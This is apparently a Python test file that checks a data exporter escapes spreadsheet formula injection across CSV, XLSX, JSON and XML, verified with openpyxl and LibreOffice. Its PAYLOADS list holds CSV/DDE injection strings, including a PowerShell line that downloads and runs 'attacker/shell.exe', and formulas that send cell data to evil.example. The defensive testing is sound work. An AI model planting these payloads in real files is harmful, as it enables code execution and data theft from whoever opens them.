"""No spreadsheet takes a value for a formula or a link, and nothing is lost: read back by three readers."""

import os
import random
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.cell import Cell
from openpyxl.utils.escape import unescape

from accounts.spreadsheets import plain
from downloads.exporters import export
from downloads.models import Format
from downloads.options import Options, Separator
from tests.downloads.rows import chosen, elements, exported, objects, table, taken

PAYLOADS = (
    "=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0", "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A-3+3+cmd|' /C calc'!D2", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1+1",
    "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1+1", "﹦1+1",
    "'=1+1", "''=1+1", "' =1+1", "\"=1+1", "=\"1\"+1", ";=1+1", ",=1+1", "x\n=1+1", "x\r\n=1+1", "{=1+1}", "=",
    "==", "+", "@", "--", "-1", "+44 20 7946 0000", "1+1", "http://evil.example/", "mailto:a@evil.example",
    "file:///etc/passwd", "internal:Results!A1", "external:c:\\x.xlsx", "#REF!", "TRUE",
    "1e5", "0012", "3/4", "_x003D_1+1",
    "javascript:alert(1)", "<b>&amp;]]>", "\\\"", "\"", "\"\"", "'",
)  # fmt: skip
HARMLESS = ("O'Brien", "D'Angelo", "'s-Gravenhage", "'t Hooft", "-", "Jean-Luc", "Anne + Marie", "Smith=Jones",
            "a@b.example", "Ng", "王小明", "Ðorđe", " Leading blank", "\u200bZero", "1-2", "O＝K", "")  # fmt: skip


def generated(number: int) -> Iterator[str]:
    """Beginnings that matter, in all orders, before texts of many scripts; always the same ones."""
    chance = random.Random(20261125)
    beginnings = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", " ", "\u00a0", "\u3000", "\u200b",
                  "\ufeff", "'", '"', ",", ";", "x", "É", "1", "_x0041_"]  # fmt: skip
    letters = "abz'\"-,;= \u00e9\u0159\u0142王小明محمدשלום\u0e01\U0001f600&<>%_0123456789"
    for _number in range(number):
        start = "".join(chance.choices(beginnings, k=chance.randrange(4)))
        yield start + "".join(chance.choices(letters, k=chance.randrange(12)))


VALUES = (*PAYLOADS, *HARMLESS, *generated(1_200))
FORMULA = re.compile(r"[\s\u200b\u202e\ufeff]*[=+\-@＝＋－＠﹦]|[\t\r\n\0]")
"""How a formula begins, written down apart from the code that neutralises it."""
COLUMNS = chosen("reference_number", "family_name", "score")


def rows() -> list[Any]:
    return [taken(family_name=value, reference_number=f"N{number}") for number, value in enumerate(VALUES)]


def told_back(cell: str) -> str:
    """What stood there before it was neutralised: one apostrophe less, where there would be one more without it."""
    return cell[1:] if cell[:1] == "'" and plain(cell[1:]) == cell else cell


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_names_stay_as_they_are(text: str) -> None:
    assert plain(text) == text


@pytest.mark.parametrize("sign", [*"=+-@", *"＝＋－＠", *"﹦﹢﹣﹫"])
@pytest.mark.parametrize("before", ["", " ", "\u00a0 ", "\u3000", "\u200b", "\ufeff", "'", " \t"])
def test_what_begins_like_a_formula_gets_an_apostrophe(before: str, sign: str) -> None:
    assert plain(f"{before}{sign}1+1") == f"'{before}{sign}1+1"


@pytest.mark.parametrize("control", [*"\t\r\n\0"])
def test_what_begins_with_a_control_gets_an_apostrophe(control: str) -> None:
    assert plain(f"{control}x") == f"'{control}x".replace("\0", "\ufffd")


def test_what_was_neutralised_can_be_told_back() -> None:
    assert [told_back(plain(text)) for text in VALUES] == list(VALUES)


@pytest.mark.parametrize("separator", Separator)
def test_csv_read_back_by_python(separator: Separator, tmp_path: Path) -> None:
    lines = table(tmp_path, rows(), columns=COLUMNS, separator=separator)
    assert [told_back(family_name) for _number, family_name, _score in lines[1:]] == list(VALUES)
    assert not [cell for line in lines for cell in line if FORMULA.match(cell) and cell != "-"]


def test_own_headings_are_neutralised_too(tmp_path: Path) -> None:
    columns = chosen(("family_name", "=1+1"), ("cefr", "＠x"))
    assert table(tmp_path, [taken()], columns=columns)[0] == ["'=1+1", "'＠x"]
    (file,) = exported(tmp_path, [taken()], columns=columns, format=Format.XLSX).files
    assert [(cell.value, cell.data_type) for cell in cells(file)[0]] == [("=1+1", "s"), ("＠x", "s")]


def test_xlsx_read_back_by_openpyxl(tmp_path: Path) -> None:
    (file,) = exported(tmp_path, rows(), columns=COLUMNS, format=Format.XLSX, batch=100).files
    lines = cells(file)[1:]
    assert [unescape(line[1].value or "") for line in lines] == list(VALUES)
    assert {(line[1].data_type, line[2].data_type, line[2].value) for line in lines if line[1].value} == {
        ("s", "n", 195)
    }
    assert no_formula_and_no_link(file)


def test_json_and_xml_read_back(tmp_path: Path) -> None:
    (file,) = exported(tmp_path, rows(), columns=COLUMNS, format=Format.JSON).files
    assert [row["family_name"] for row in objects(file)] == list(VALUES)
    (file,) = exported(tmp_path, rows(), columns=COLUMNS, format=Format.XML).files
    assert [row["family_name"] for row in elements(file)] == list(VALUES)


def test_xml_is_well_formed_for_any_character(tmp_path: Path) -> None:
    every = [chr(code) for code in (*range(0xA0), 0xD7FF, 0xE000, *range(0xFDD0, 0xFDF0), 0xFFFE, 0xFFFF, 0x1FFFF)]
    columns = chosen(("reference_number", "a\x07<&>\"'\n"), ("family_name", "x\ufffe"))
    given = [taken(family_name=f"a{character}b") for character in every]
    made = exported(tmp_path, given, columns=columns, format=Format.XML)
    forbidden = {*map(chr, range(0x20)), "\ufffe", "\uffff"} - {"\t", "\n", "\r"}
    assert [row["family_name"] for row in elements(made.files[0])] == [
        "a\ufffdb" if character in forbidden else f"a{character}b" for character in every
    ]
    assert made.notes == (f"{len(forbidden) + 2} characters cannot stand in XML and were replaced.",)


# --- LibreOffice ----------------------------------------------------------------------------------------------------

AS_QUOTED = "CSV:44,34,76,1,,0,true,false"  # comma, quote, UTF-8, from line 1; quoted fields are text, no guessing


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Our files and one of a careless program, as LibreOffice makes XLSX of them."""
    path = tmp_path_factory.mktemp("office")
    for form in (Format.CSV, Format.XLSX):
        export(options=Options(format=form, columns=COLUMNS), batches=[rows()], folder=path, name=form.value)
    (path / "careless.csv").write_text("".join('"x","{}",1\n'.format(text.replace('"', '""')) for text in PAYLOADS))
    shutil.copy(path / "csv.csv", path / "quoted.csv")
    convert(path, "csv.csv", "xlsx.xlsx", "careless.csv")
    convert(path, "quoted.csv", infilter=AS_QUOTED)
    return path / "read"


def convert(path: Path, *names: str, infilter: str = "") -> None:
    subprocess.run(
        [
            "soffice", f"-env:UserInstallation={(path / 'profile').as_uri()}", "--headless",
            *([f"--infilter={infilter}"] if infilter else []), "--convert-to", "xlsx", "--outdir", path / "read",
            *names,
        ],
        cwd=path, check=True, capture_output=True, timeout=120, env={**os.environ, "HOME": str(path)},
    )  # fmt: skip


def cells(file: Path) -> list[tuple[Cell, ...]]:
    return list(openpyxl.load_workbook(file).active.iter_rows())


def no_formula_and_no_link(file: Path) -> bool:
    return not [cell for line in cells(file) for cell in line if cell.data_type == "f" or cell.hyperlink]


def in_one_way(text: str) -> str:
    """LibreOffice knows one way to end a line."""
    return re.sub("[\r\n]+", "\n", text)


def test_libreoffice_would_take_payloads_for_formulas(folder: Path) -> None:
    formulas = [cell for line in cells(folder / "careless.xlsx") for cell in line if cell.data_type == "f"]
    assert len(formulas) > 5


@pytest.mark.parametrize("name", ["csv", "xlsx", "quoted"])
def test_libreoffice_finds_no_formula_and_no_link(name: str, folder: Path) -> None:
    assert len(cells(folder / f"{name}.xlsx")) == len(VALUES) + 1
    assert no_formula_and_no_link(folder / f"{name}.xlsx")


@pytest.mark.parametrize("name", ["xlsx", "quoted"])
def test_libreoffice_loses_nothing(name: str, folder: Path) -> None:
    found = [line[1].value or "" for line in cells(folder / f"{name}.xlsx")[1:]]
    told = found if name == "xlsx" else [told_back(cell) for cell in found]
    assert [in_one_way(text) for text in told] == [in_one_way(text) for text in VALUES]


def test_libreoffice_keeps_numbers_and_dates_by_type(folder: Path) -> None:
    assert {(line[2].data_type, line[2].value) for line in cells(folder / "xlsx.xlsx")[1:]} == {("n", 195)}
